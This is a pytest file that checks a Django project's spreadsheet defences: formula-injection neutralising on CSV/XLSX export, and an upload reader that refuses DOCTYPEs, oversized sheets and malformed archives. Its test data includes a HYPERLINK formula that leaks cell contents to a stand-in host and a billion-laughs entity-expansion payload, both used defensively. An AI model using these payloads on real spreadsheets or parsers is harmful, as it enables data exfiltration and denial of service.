"""The shared spreadsheet helpers (issue 15): the cell-neutralising writer every CSV/XLSX export uses, and the
bounded upload reader every import uses (archive checks, DOCTYPE, rows counting blank ones, cells, time)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile
from typing import Any

import pytest
from django.utils import translation
from openpyxl import Workbook, load_workbook

from tests.personas import client_for
from waspada.accounts.imports import ImportFailed, read_rows
from waspada.accounts.models import User
from waspada.core.audit import record
from waspada.core.spreadsheets.cells import FORMULA_START, csv_cell, csv_writer, is_formula_like, xlsx_row
from waspada.core.spreadsheets.upload import CHUNK, UploadLimits, UploadRefused, read_table

HOSTILE = '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")'
TRIGGERS = ["=1+1", "+62 812", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(A1)"]
HARMLESS = ["Kota Bandung", "", " =spasi dulu", "TPS 12 - Sukasari", "'sudah dikutip"]


# --- The writer ---------------------------------------------------------------------------------------------


def test_every_trigger_and_only_text_is_neutralised() -> None:
    assert len(TRIGGERS) == len(FORMULA_START)
    for value in TRIGGERS:
        assert is_formula_like(value) and csv_cell(value) == "'" + value
    for value in HARMLESS:
        assert not is_formula_like(value) and csv_cell(value) == value
    for number in (-5, -6.9147, 0, 3, None, True):
        assert csv_cell(number) == number  # a real negative number stays a number


def test_csv_writer_writes_no_live_formula() -> None:
    buffer = io.StringIO()
    writer = csv_writer(buffer)
    writer.writerow(["judul", "luka"])
    writer.writerows([[HOSTILE, -2], ["Aman", 3]])
    rows = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert rows == [["judul", "luka"], ["'" + HOSTILE, "-2"], ["Aman", "3"]]


@pytest.mark.parametrize("write_only", [True, False])
def test_xlsx_rows_write_formula_text_as_quoted_strings(write_only: bool) -> None:
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet("data")
    sheet.append(xlsx_row(sheet, [HOSTILE, -5, 2.5, "Kota Bandung", *TRIGGERS]))
    buffer = io.BytesIO()
    book.save(buffer)
    cells = list(load_workbook(io.BytesIO(buffer.getvalue()))["data"].iter_rows())[0]
    assert all(cell.data_type != "f" for cell in cells)
    assert (cells[0].value, cells[0].data_type, cells[0].quotePrefix) == (HOSTILE, "s", True)
    assert (cells[1].value, cells[1].data_type, cells[2].value) == (-5, "n", 2.5)
    assert cells[3].value == "Kota Bandung" and not cells[3].quotePrefix
    for cell, value in zip(cells[4:], TRIGGERS, strict=True):  # XML reads a carriage return back as a newline
        assert (cell.value, cell.data_type, cell.quotePrefix) == (value.replace("\r", "\n"), "s", True)


@pytest.mark.django_db
def test_audit_exports_go_through_the_writer(national_admin: User) -> None:
    record(national_admin, HOSTILE, national_admin, None, None)
    client = client_for(national_admin)
    body = b"".join(client.get("/audit/export.csv").streaming_content).decode().lstrip("\ufeff")
    actions = [row[3] for row in csv.reader(io.StringIO(body))]
    assert "'" + HOSTILE in actions and HOSTILE not in actions
    sheet = load_workbook(io.BytesIO(client.get("/audit/export.xlsx").content)).active
    found = [cell for row in sheet.iter_rows() for cell in row if cell.value == HOSTILE]
    assert found and all(cell.data_type == "s" and cell.quotePrefix for cell in found)
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


# --- The reader ---------------------------------------------------------------------------------------------


def workbook(rows: list[list[Any]]) -> bytes:
    book = Workbook()
    for values in rows:
        book.active.append(values)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def with_sheet(content: bytes, before_root: bytes = b"", rows: bytes = b"") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info)
            if info.filename == "xl/worksheets/sheet1.xml":
                data = before_root + data.replace(b"</sheetData>", rows + b"</sheetData>")
            target.writestr(info.filename, data)
    return out.getvalue()


def refusal(content: bytes, name: str = "data.xlsx", **limits: Any) -> UploadRefused:
    with pytest.raises(UploadRefused) as refused, translation.override("en"):
        read_table(content, name, UploadLimits(**limits))
    return refused.value


def test_a_plain_table_reads() -> None:
    table = read_table(workbook([["a", "b"], [1, "x"], [None, None], [2, "y"]]), "t.xlsx", UploadLimits())
    assert (table.file_format, table.header, table.rows, table.too_many) == ("xlsx", ["a", "b"],
                                                                            [(2, (1, "x")), (4, (2, "y"))], False)
    csv_table = read_table(b"a;b\r\n1;x\r\n\r\n2;y\r\n", "t.csv", UploadLimits())
    assert csv_table.rows == [(2, ("1", "x")), (4, ("2", "y"))]


def test_declarations_are_found_across_a_chunk_boundary() -> None:
    """The scan reads 1 MB at a time: a DOCTYPE straddling two chunks is still found (a DOCTYPE without entities,
    which defusedxml would let through: only the scan refuses it)."""
    start = b"<?xml version='1.0'?><!--"
    padding = start + (b" <" * CHUNK)[: CHUNK - 4 - len(start) - 3] + b"-->"  # the DOCTYPE starts 4 bytes before
    content = with_sheet(workbook([["a"], [1]]), padding + b"<!DOCTYPE worksheet>")
    assert refusal(content, max_ratio=100_000).limit == "doctype"


def test_a_long_text_run_is_found_across_a_chunk_boundary() -> None:
    """A 5,000-character run split 2,500 / 2,500 by the chunk boundary (each half under the scan's bound)."""
    content = workbook([["a"], [1]])
    sheet = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml")
    opening = b'<row r="3"><c r="A3" t="inlineStr"><is><t>'
    row = opening + b"x" * 5000 + b"</t></is></c></row>"
    filler = CHUNK - 2500 - len(opening) - sheet.index(b"</sheetData>") - len(b"<!---->")
    padding = b"<!--" + (b" <" * CHUNK)[:filler] + b"-->"
    refused = refusal(with_sheet(content, padding, row), max_cell_chars=1000, max_ratio=100_000)
    assert refused.limit == "cell" and "row" not in str(refused)  # the scan's refusal, before any row is read


def test_members_and_rows_and_formats() -> None:
    many = io.BytesIO()
    with zipfile.ZipFile(many, "w") as archive:
        for number in range(20):
            archive.writestr(f"part{number}.xml", b"<a/>")
    assert refusal(many.getvalue(), max_members=10).limit == "members"
    blank = b"".join(b'<row r="%d"/>' % number for number in range(3, 40))
    assert refusal(with_sheet(workbook([["a"], [1]]), rows=blank), max_rows=5, blank_rows=5).limit == "rows"
    assert read_table(workbook([["a"]] + [[n] for n in range(30)]), "t.xlsx", UploadLimits(max_rows=5)).too_many
    wide = with_sheet(workbook([["a"], [1]]), rows=b'<row r="3"><c r="ZZ3" t="inlineStr"><is><t>x</t></is></c></row>')
    assert refusal(wide, max_columns=100).limit == "columns"
    with pytest.raises(UploadRefused):
        read_table(b"a,b\r\n1,2\r\n", "t.csv", UploadLimits(), formats=("xlsx",))
    assert refusal(b"x" * 2000, "t.csv", max_bytes=1000).limit == "bytes"


def test_a_row_of_countless_cells_is_refused_before_parsing() -> None:
    """openpyxl builds a whole <row> before the reader sees it: the scan counts its tags first (here blank
    cells, which the row-by-row check would never look at)."""
    cells = b"".join(b'<c r="%s3"/>' % column for column in (b"A", b"B", b"C", b"D") * 5000)
    refused = refusal(with_sheet(workbook([["a"], [1]]), rows=b'<row r="3">' + cells + b"</row>"), max_columns=100,
                      max_ratio=100_000)  # fmt: skip
    assert refused.limit == "columns" and "Row 3" in str(refused)
    assert read_table(workbook([["a"] * 100, list(range(100))]), "t.xlsx", UploadLimits(max_columns=100)).rows


def test_rows_are_counted_once_across_chunks() -> None:
    """60,000 blank rows of 40 bytes span three 1 MB chunks: counted once each (a row tag in the overlap
    carried from one chunk to the next counted twice would refuse the first file)."""
    blank = b"".join(b'<row r="%d" ht="15" customHeight="1"/>' % number for number in range(3, 60_003))
    content = with_sheet(workbook([["a"], [1]]), rows=blank)
    assert len(zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml")) > 2 * CHUNK
    assert read_table(content, "t.xlsx", UploadLimits(max_rows=100, blank_rows=59_902, max_ratio=100_000)).rows
    refused = refusal(content, max_rows=100, blank_rows=59_800, max_ratio=100_000)
    assert refused.limit == "rows"


def test_a_far_cell_is_refused_before_the_cells_are_read() -> None:
    """The cell reader allocates the rectangle from A1 to the last cell: a cell at XFD1048576 (two rows and one
    cell in the file, so the row and tag counts pass) is refused by its reference before anything is read."""
    base = workbook([["a"], [1]])
    far_row = with_sheet(base, rows=b'<row r="1048576"><c r="A1048576"><v>1</v></c></row>')
    assert refusal(far_row).limit == "rows"
    far_cell = with_sheet(base, rows=b'<row r="3"><c r="XFD3"><v>1</v></c></row>')
    assert refusal(far_cell).limit == "columns"
    quoted = with_sheet(base, rows=b"<row r='3'><c t='n' r='$AAA3'><v>1</v></c></row>")
    assert refusal(quoted, max_columns=500).limit == "columns"
    near = with_sheet(base, rows=b'<row r="30"><c r="SF30"><v>7</v></c></row>')  # column 500, row 30: within
    table = read_table(near, "t.xlsx", UploadLimits(max_rows=10, blank_rows=20, max_columns=500))
    assert table.rows[-1][0] == 30 and table.rows[-1][1][499] == 7 and len(table.rows[-1][1]) == 500


def test_cells_come_out_as_the_row_by_row_reader_gave_them() -> None:
    """Whole numbers as int, others as float, a date cell as a datetime, an empty cell as None, booleans; a sheet
    that starts at B3 keeps its row numbers and columns, each row ends at its last value; merged ranges by their
    A1 names."""
    book = Workbook()
    sheet = book.active
    sheet["B3"], sheet["C3"], sheet["D3"] = "tanggal", "jumlah", "lintang"
    sheet["B4"], sheet["C4"], sheet["D4"] = dt.date(2019, 5, 21), 2017, -6.9147
    sheet["B5"], sheet["C5"], sheet["E5"] = dt.datetime(2019, 5, 22, 10, 30), True, "x"
    sheet["B7"] = "gabung"
    sheet.merge_cells("B7:C7")
    buffer = io.BytesIO()
    book.save(buffer)
    table = read_table(buffer.getvalue(), "t.xlsx", UploadLimits())
    assert table.header == []  # rows 1 and 2 are blank: the first row read is the header, as before
    assert table.rows[0] == (3, (None, "tanggal", "jumlah", "lintang"))
    number, values = table.rows[1]
    assert number == 4 and values[1] == dt.datetime(2019, 5, 21) and type(values[1]) is dt.datetime
    assert type(values[2]) is int and values[2] == 2017 and values[3] == -6.9147
    assert table.rows[2] == (5, (None, dt.datetime(2019, 5, 22, 10, 30), True, None, "x"))
    assert table.rows[3] == (7, (None, "gabung")) and table.merged == ["B7:C7"]


def test_a_broken_sheet_is_unreadable_not_a_crash() -> None:
    broken = with_sheet(workbook([["a"], [1]]), rows=b'<row r="3"><c r="A3"><v>1</c></row>')
    assert refusal(broken).limit == "unreadable"
    garbage = io.BytesIO()
    with zipfile.ZipFile(garbage, "w") as archive:
        archive.writestr("xl/workbook.xml", b"<workbook>")
    assert refusal(garbage.getvalue()).limit == "unreadable"


@pytest.mark.django_db
def test_the_accounts_onboarding_reads_through_the_safe_reader() -> None:
    laughs = (b'<!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
              b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>')  # fmt: skip
    content = with_sheet(workbook([["username", "email", "role", "region_code"], ["a", "a@b.id", "viewer", "32"]]),
                         laughs)  # fmt: skip
    with pytest.raises(ImportFailed) as failed:
        read_rows(content)
    assert "DOCTYPE" in str(failed.value.errors[0])
